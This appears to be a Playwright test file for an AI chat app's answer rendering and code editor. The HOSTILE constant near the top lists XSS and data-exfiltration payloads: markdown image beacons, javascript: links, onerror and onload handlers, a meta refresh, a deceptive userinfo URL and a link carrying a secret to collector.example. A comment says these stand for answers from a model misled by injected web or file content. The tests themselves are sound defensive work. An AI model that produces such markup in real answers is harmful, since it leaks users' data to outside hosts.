import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { answers, appIdOf, finished, openNewApp, send, view } from "./chat";
import { expect, test } from "./fixtures";
import { saveFile } from "./otherClient";

const BEACON = "https://collector.example";

/** What an answer might hold that was led astray by a web page or a file. */
const HOSTILE = [
  `![a](${BEACON}/a.png) ![b][b] [click](javascript:alert(1)) <javascript:alert(2)> [data](data:text/html,x)`,
  `[b]: ${BEACON}/b.png`,
  `<script>window.ran = 1</script><img src="${BEACON}/c.png" onerror="window.ran = 2"><iframe src="${BEACON}"></iframe>`,
  `<style>body { display: none }</style><link rel="stylesheet" href="${BEACON}/d.css"><base href="${BEACON}/">`,
  `<div style="position: fixed; inset: 0; background: url(${BEACON}/e.png)">over all</div><svg onload="window.ran = 3"></svg>`,
  `<meta http-equiv="refresh" content="0;url=${BEACON}"><form action="${BEACON}"><button>Sign in</button></form>`,
  "[good](https://good.example/page) [plain](http://good.example)",
  `[good.example](https://good.example@collector.example) [report](${BEACON}/?${"s3cr3t".repeat(20)})`,
].join("\n\n");

test("an answer cannot run anything, load from elsewhere, or cover the page @anywhere", async ({ page }) => {
  await openNewApp(page, "Hostile");
  await send(page, "Hello");
  await finished(answers(page).first());
  // In place of the stored answer: no model of ours says such things.
  await page.route(/ai-chat-v2\?sessionId=/, async (route) => {
    const response = await route.fetch();
    const body = (await response.json()) as { session: { title: string; messages: unknown[] } };
    const said = (role: string, text: string) => ({
      id: `h-${role}`,
      turnId: 1,
      role,
      content: [{ type: "text", text }],
      createdAt: 1,
    });
    body.session.title = "<img src=x onerror='window.ran = 4'>";
    body.session.messages = [said("user", HOSTILE), said("assistant", HOSTILE)];
    await route.fulfill({ response, json: body });
  });

  await page.reload();
  const answer = answers(page).first();
  await expect(answer.getByRole("link", { name: "good (good.example)" })).toBeVisible();

  expect(
    await answer.getByRole("link").evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href)),
  ).toEqual(["https://good.example/page", `${BEACON}/`]);
  await expect(answer.getByRole("link", { name: "good.example (collector.example)" })).toBeVisible();
  await expect(answer.locator("img, iframe, script, style, svg:not([aria-hidden]), form, [style]")).toHaveCount(0);
  expect(await page.evaluate(() => (window as { ran?: number }).ran)).toBeUndefined();
  await expect(page.getByRole("textbox", { name: "Message" })).toBeInViewport();

  const address = `${BEACON}/?${"s3cr3t".repeat(20)}`;
  const asking = answer.getByRole("button", { name: "report (collector.example)" });
  const dialog = page.getByRole("dialog", { name: "Open this address?" });
  await page.context().route(`${BEACON}/**`, (route) => route.fulfill({ body: "There." }));
  await asking.focus();
  await page.keyboard.press("Enter");
  await expect(dialog.getByText(address, { exact: true })).toBeVisible();
  await expect(dialog.getByRole("button", { name: "Cancel" })).toBeFocused();
  await page.keyboard.press("Escape");
  await expect(dialog).toHaveCount(0);
  await expect(asking).toBeFocused();
  expect(page.context().pages()).toHaveLength(1);

  await page.keyboard.press("Enter");
  const opening = page.context().waitForEvent("page");
  await dialog.getByRole("button", { name: "Open" }).press("Enter");
  const opened = await opening;
  await expect(opened).toHaveURL(address);
  expect(await opened.evaluate(() => window.opener)).toBeNull();
  await expect(asking).toBeFocused();
});

test.describe("the editor", () => {
  // The browser says what it did not load, and tells of the request that was not made.
  test.use({ expectedComplaint: /Content Security Policy|\/picture\.png/ });

  for (const header of ["with", "without"]) {
    test(`loads no picture that a comment names, ${header} the header of the page's policy`, async ({ page }) => {
      const asked: (string | undefined)[] = [];
      const elsewhere = createServer((request, response) => {
        asked.push(request.url);
        response.end();
      });
      await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
      const picture = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}/picture.png`;
      try {
        await openNewApp(page, "Comment");
        await saveFile(appIdOf(page), "a.ts", `/** Look: ![picture](${picture}) */\nexport const answer = 42;\n`);
        await page.addInitScript(() => {
          const refused: string[] = [];
          Object.assign(window, { refused });
          document.addEventListener("securitypolicyviolation", ({ blockedURI }) => refused.push(blockedURI));
        });
        let policies = 0;
        const isPage = ({ pathname }: URL) => header === "without" && pathname === "/";
        await page.route(isPage, async (route) => {
          const response = await route.fetch();
          const { "content-security-policy": policy, ...headers } = response.headers();
          if (policy) policies += 1;
          await route.fulfill({ response, headers });
        });
        await page.reload();
        await view(page, "Code").click();
        await page.getByRole("treeitem", { name: "a.ts", exact: true }).click();
        const tip = page.locator(".monaco-hover", { hasText: "Look:" });
        const word = page.getByTestId("monaco").getByText("answer", { exact: true });
        await expect(async () => {
          // The pointer has to come anew once the file's language is known.
          await page.mouse.move(0, 0);
          await word.hover();
          await expect(tip).toBeVisible({ timeout: 3000 });
        }).toPass();
        await expect(tip.locator("img")).toHaveAttribute("src", picture);
        await expect.poll(() => page.evaluate(() => (window as { refused?: string[] }).refused)).toContain(picture);
        expect(asked).toEqual([]);
        expect(policies).toBe(header === "without" ? 1 : 0);
      } finally {
        elsewhere.close();
      }
    });
  }
});
